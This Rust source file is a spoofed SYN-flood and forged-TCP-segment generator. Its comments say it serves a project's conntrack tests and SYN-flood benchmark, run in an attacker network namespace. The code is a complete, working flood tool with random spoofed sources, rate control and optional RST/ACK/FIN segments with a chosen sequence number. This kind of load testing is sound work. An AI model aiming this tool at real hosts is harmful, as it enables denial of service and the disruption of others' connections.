//! A spoofed SYN flood for the conntrack tests and the SYN-flood benchmark:
//! TCP SYNs to one address and port, each from a random address of a
//! prefix and a random port, as fast as the raw socket takes them (or at a
//! given rate), for a number of packets or seconds. Prints one JSON line:
//! `{"sent": N, "secs": S, "pps": R}` (also when stopped by SIGTERM).
//!
//! `synflood --to 10.1.0.1:8000 --from 10.99.0.0/16 [--count N] [--secs S]
//! [--rate PPS]` (root, in the attacker's network namespace). For a forged
//! segment instead, `--from IP/32 --sport P --flags R --seq N`: fixed source
//! port, flags (any of S, A, R, F) and sequence number.
//!
//! Hand-written rather than hping3/trafgen: neither is in the project's
//! package set, hping3 reports no rate, and the benchmark needs the count
//! of what was sent. Frames are built with etherparse; the kernel sends
//! them as they are (IPPROTO_RAW implies IP_HDRINCL), so the spoofed
//! source addresses leave unchanged.
use std::{
    net::{Ipv4Addr, SocketAddrV4},
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use anyhow::{bail, Context, Result};
use etherparse::PacketBuilder;

struct Args {
    to: SocketAddrV4,
    net: u32,
    prefix: u32,
    count: Option<u64>,
    secs: Option<f64>,
    rate: Option<u64>,
    sport: Option<u16>,
    flags: String,
    seq: Option<u32>,
}

fn parse_args() -> Result<Args> {
    let mut a = Args {
        to: "127.0.0.1:1".parse()?,
        net: 0,
        prefix: 32,
        count: None,
        secs: None,
        rate: None,
        sport: None,
        flags: "S".into(),
        seq: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let v = it.next().with_context(|| format!("{flag} needs a value"))?;
        match flag.as_str() {
            "--to" => a.to = v.parse().context("--to IP:PORT")?,
            "--from" => {
                let (ip, len) = v.split_once('/').context("--from CIDR")?;
                a.net = u32::from(ip.parse::<Ipv4Addr>()?);
                a.prefix = len.parse()?;
                if a.prefix > 32 {
                    bail!("--from: prefix length {}", a.prefix);
                }
            }
            "--count" => a.count = Some(v.parse()?),
            "--secs" => a.secs = Some(v.parse()?),
            "--rate" => a.rate = Some(v.parse()?),
            "--sport" => a.sport = Some(v.parse()?),
            "--flags" => a.flags = v,
            "--seq" => a.seq = Some(v.parse()?),
            _ => bail!("unknown flag {flag}"),
        }
    }
    if a.count.is_none() && a.secs.is_none() {
        bail!("give --count or --secs");
    }
    Ok(a)
}

/// xorshift64*: fast, and good enough to scatter addresses and ports.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn syn(rng: &mut Rng, a: &Args) -> Vec<u8> {
    let host_bits = if a.prefix == 32 {
        0
    } else {
        (rng.next() as u32) & (u32::MAX >> a.prefix)
    };
    let src = Ipv4Addr::from(a.net | host_bits);
    let r = rng.next();
    let sport = a.sport.unwrap_or(1024 + (r as u16 % 64000));
    let seq = a.seq.unwrap_or((r >> 32) as u32);
    let mut b = PacketBuilder::ipv4(src.octets(), a.to.ip().octets(), 64).tcp(
        sport,
        a.to.port(),
        seq,
        64240,
    );
    for f in a.flags.chars() {
        b = match f {
            'S' => b.syn(),
            'A' => b.ack(0),
            'R' => b.rst(),
            'F' => b.fin(),
            _ => b,
        };
    }
    let mut v = Vec::with_capacity(40);
    b.write(&mut v, &[]).expect("frame");
    v
}

/// Set by SIGTERM/SIGINT: stop sending and print what was sent.
static STOP: AtomicBool = AtomicBool::new(false);

extern "C" fn on_signal(_: libc::c_int) {
    STOP.store(true, Ordering::SeqCst);
}

fn main() -> Result<()> {
    let a = parse_args()?;
    for sig in [libc::SIGTERM, libc::SIGINT] {
        // SAFETY: the handler only stores to an atomic.
        unsafe { libc::signal(sig, on_signal as *const () as libc::sighandler_t) };
    }
    // SAFETY: plain socket call.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        bail!("raw socket: {}", std::io::Error::last_os_error());
    }
    let dst = libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*a.to.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ std::process::id() as u64);
    let start = Instant::now();
    let deadline = a.secs.map(|s| start + Duration::from_secs_f64(s));
    let mut sent = 0u64;
    loop {
        if STOP.load(Ordering::Relaxed)
            || a.count.is_some_and(|c| sent >= c)
            || deadline.is_some_and(|d| Instant::now() >= d)
        {
            break;
        }
        if let Some(rate) = a.rate {
            // Paced: never ahead of rate x elapsed.
            let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
            if sent >= due {
                std::thread::sleep(Duration::from_micros(200));
                continue;
            }
        }
        let f = syn(&mut rng, &a);
        // SAFETY: f and dst outlive the call; lengths are theirs.
        let n = unsafe {
            libc::sendto(
                fd,
                f.as_ptr() as *const libc::c_void,
                f.len(),
                0,
                &dst as *const libc::sockaddr_in as *const libc::sockaddr,
                std::mem::size_of::<libc::sockaddr_in>() as u32,
            )
        };
        if n < 0 {
            let e = std::io::Error::last_os_error();
            // A full device queue: wait for it, as a flood tool does.
            if e.raw_os_error() == Some(libc::ENOBUFS) {
                std::thread::sleep(Duration::from_micros(50));
                continue;
            }
            bail!("sendto: {e}");
        }
        sent += 1;
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "{{\"sent\": {sent}, \"secs\": {secs:.3}, \"pps\": {:.0}}}",
        sent as f64 / secs.max(1e-9)
    );
    Ok(())
}
